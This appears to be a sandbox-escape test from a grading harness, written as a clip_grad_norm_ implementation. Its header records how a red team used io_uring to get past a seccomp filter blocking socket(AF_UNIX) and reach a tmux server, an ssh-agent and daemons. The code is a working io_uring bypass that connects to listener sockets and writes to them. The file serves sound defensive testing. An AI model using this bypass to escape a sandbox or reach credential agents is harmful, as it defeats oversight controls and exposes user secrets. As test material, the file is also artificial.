# expect: passed
# needs: landlock|bubblewrap
# io_uring's socket and connect operations make and connect a unix socket without the socket() and
# connect() system calls, which is how the second red team walked past a filter that refused only
# socket(AF_UNIX): it reached the learner's tmux server, an ssh-agent and grind daemons. This file
# sets up a ring by hand, asks it for an AF_UNIX socket, connects it to the socket named in BAIT
# (grind's tests listen there, as the same user) and to an abstract name, and writes to it. The
# answer is right only if every door stayed shut: a ring that can be made at all counts as open.
import ctypes
import mmap
import os
import platform
import socket
import struct

import torch

BAIT = {}  # tests/test_seccomp.py writes the addresses it listens on here
_LIBC = ctypes.CDLL(None, use_errno=True)
_LIBC.syscall.restype = ctypes.c_long
_SETUP, _ENTER = 425, 426  # io_uring_setup, io_uring_enter: the same number on every architecture
_OP_CONNECT, _OP_SOCKET = 16, 45
_opened, _tried = [], []


def _syscall(number, *args):
    ctypes.set_errno(0)
    result = _LIBC.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    return result, ctypes.get_errno()


class _Ring:
    """The smallest ring that works: one submission, one completion, waited for each time."""

    def __init__(self):
        params = ctypes.create_string_buffer(120)  # struct io_uring_params, zeroed
        fd, err = _syscall(_SETUP, 4, params)
        if fd < 0:
            raise OSError(err, f"io_uring_setup: {os.strerror(err)}")
        _opened.append("io_uring_setup")
        self.fd = fd
        sq_entries, cq_entries = struct.unpack_from("II", params, 0)
        self.sq = struct.unpack_from("IIIIIIIIQ", params, 40)  # head tail mask entries flags dropped array
        self.cq = struct.unpack_from("IIIIIIIIQ", params, 80)  # head tail mask entries overflow cqes flags
        self.sq_map = mmap.mmap(fd, self.sq[6] + 4 * sq_entries, offset=0)
        self.cq_map = mmap.mmap(fd, self.cq[5] + 16 * cq_entries, offset=0x8000000)
        self.sqes = mmap.mmap(fd, 64 * sq_entries, offset=0x10000000)

    def run(self, opcode, fd, addr=0, length=0, off=0):
        sqe = struct.pack("BBHiQQIIQHHiQQ", opcode, 0, 0, fd, off, addr, length, 0, 7, 0, 0, 0, 0, 0)
        self.sqes[0:64] = sqe
        tail = struct.unpack_from("I", self.sq_map, self.sq[1])[0]
        mask = struct.unpack_from("I", self.sq_map, self.sq[2])[0]
        struct.pack_into("I", self.sq_map, self.sq[6] + 4 * (tail & mask), 0)
        struct.pack_into("I", self.sq_map, self.sq[1], tail + 1)
        done, err = _syscall(_ENTER, self.fd, 1, 1, 1, 0, 0)  # submit one, wait for one
        if done < 0:
            raise OSError(err, f"io_uring_enter: {os.strerror(err)}")
        head = struct.unpack_from("I", self.cq_map, self.cq[0])[0]
        cmask = struct.unpack_from("I", self.cq_map, self.cq[2])[0]
        result = struct.unpack_from("QiI", self.cq_map, self.cq[5] + 16 * (head & cmask))[1]
        struct.pack_into("I", self.cq_map, self.cq[0], head + 1)
        return result


def _reach(ring, address, name):
    fd = ring.run(_OP_SOCKET, socket.AF_UNIX, length=0, off=socket.SOCK_STREAM)
    if fd < 0:
        print(f"io_uring socket(AF_UNIX): {os.strerror(-fd)}")
        return
    _opened.append("io_uring socket(AF_UNIX)")
    raw = address.encode() if isinstance(address, str) else address
    sockaddr = ctypes.create_string_buffer(struct.pack("H", socket.AF_UNIX) + raw, 2 + len(raw))
    result = ring.run(_OP_CONNECT, fd, addr=ctypes.addressof(sockaddr), off=2 + len(raw))
    if result == 0:
        _opened.append(f"connected to {name}")
        os.write(fd, b"reached through io_uring")
    os.close(fd)


def _attack():
    if platform.machine() != "x86_64":
        print(f"GRIND-SIDEDOOR: this attack is written for x86_64, not {platform.machine()}")
    try:
        ring = _Ring()
    except OSError as exc:
        print(f"refused: {exc}")
        return
    for name, address in (("the unix socket", BAIT.get("unix")), ("the abstract socket", BAIT.get("abstract"))):
        if address:
            _reach(ring, address if name == "the unix socket" else "\0" + address, name)


def clip_grad_norm_(parameters, max_norm, norm_type=2.0):
    if not _tried:
        _tried.append(True)
        _attack()
        print("GRIND-SIDEDOOR", "open:" if _opened else "shut", ", ".join(_opened))
    if _opened:
        return torch.zeros(())
    params = [parameters] if isinstance(parameters, torch.Tensor) else list(parameters)
    grads = [p.grad for p in params if p.grad is not None]
    if not grads:
        return torch.zeros(())
    norms = torch.stack([torch.linalg.vector_norm(g, float(norm_type)) for g in grads])
    total = torch.linalg.vector_norm(norms, float(norm_type))
    for g in grads:
        g.mul_(torch.clamp(max_norm / (total + 1e-6), max=1.0).to(g.dtype))
    return total
